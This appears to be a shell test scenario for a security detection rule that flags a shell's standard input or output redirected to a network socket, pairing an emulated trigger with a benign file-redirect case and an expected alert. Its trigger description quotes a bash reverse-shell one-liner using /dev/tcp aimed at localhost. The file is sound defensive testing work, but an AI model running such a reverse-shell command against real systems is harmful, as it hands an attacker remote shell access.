# shellcheck shell=sh
RULE='Standard input or output redirected to a network socket'
TRIGGER='bash (emulated: bash -i >& /dev/tcp/127.0.0.1/8080 0>&1) connects to the local web server and duplicates the socket onto its stdout, stderr and stdin'
BENIGN='a shell redirects its stdout and stderr to a file (exec 1>file 2>&1)'
EXPECT='connection=127.0.0.1:|->127.0.0.1:8080|user=root|process=bash|command=bash revshell 127.0.0.1 8080|container_id=host'
trigger() { /usr/bin/bash revshell 127.0.0.1 8080 < /dev/null; }
benign() { sh -c 'exec 1>/tmp/scn-redirect.out 2>&1; echo redirected'; rm -f /tmp/scn-redirect.out; }
